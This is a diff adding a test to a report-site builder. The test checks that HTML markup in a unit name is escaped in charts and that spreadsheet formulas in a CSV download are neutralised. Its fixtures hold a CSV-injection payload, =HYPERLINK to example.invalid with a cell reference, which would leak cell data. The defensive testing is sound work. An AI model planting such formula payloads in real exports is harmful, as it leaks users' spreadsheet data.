@@ -99,3 +99,28 @@ def test_every_documented_anchor_exists(sample_build: Built) -> None:
     for page, anchor in anchors:
         html = (sample_build.reports_dir / page).read_text(encoding="utf-8")
         assert f'id="{anchor}"' in html, (page, anchor)
+
+
+def test_hostile_text_stays_text_in_charts_and_downloads(tmp_path: Path) -> None:
+    """A unit name with markup is plain text in a chart; a measure name that a spreadsheet
+    would run as a formula is neutralised in the CSV download (OWASP CSV injection)."""
+    data = fx.make_data_dir(tmp_path / "data")
+    units = [row[:] for row in fx.UNITS]
+    units[1][1] = '<a href="https://example.invalid">Bergen</a>'
+    fx.write_csv(data / "units.csv", units)
+    measures = [row[:] for row in fx.MEASURES_2007]
+    measures[1][3] = '=HYPERLINK("https://example.invalid?"&A1,"klikk")'
+    measures[2][3] = "-2+3"
+    fx.write_csv(data / "reporting/2007/tiltak.csv", measures)
+    fx.write_csv(
+        data / "context/lavinntekt.csv",
+        [["enhet_id", "aar", "andel_barn_lavinntekt"], ["1201", "2007", "9,5"]],
+    )
+    built = build_plain(data, tmp_path / "out")
+    page = (built.reports_dir / "kapittel-1-forstaelse.html").read_text(encoding="utf-8")
+    # In the chart's data the name is entities (plotly shows them as text), escaped for <script>.
+    assert '"y":["\\u0026lt;a href=' in page
+    assert '<a href="https://example.invalid">' not in page
+    listing = (built.reports_dir / "nedlasting" / "tiltak-2007.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in listing and "\n=HYPERLINK" not in listing and ",=HYPERLINK" not in listing
+    assert "'-2+3" in listing
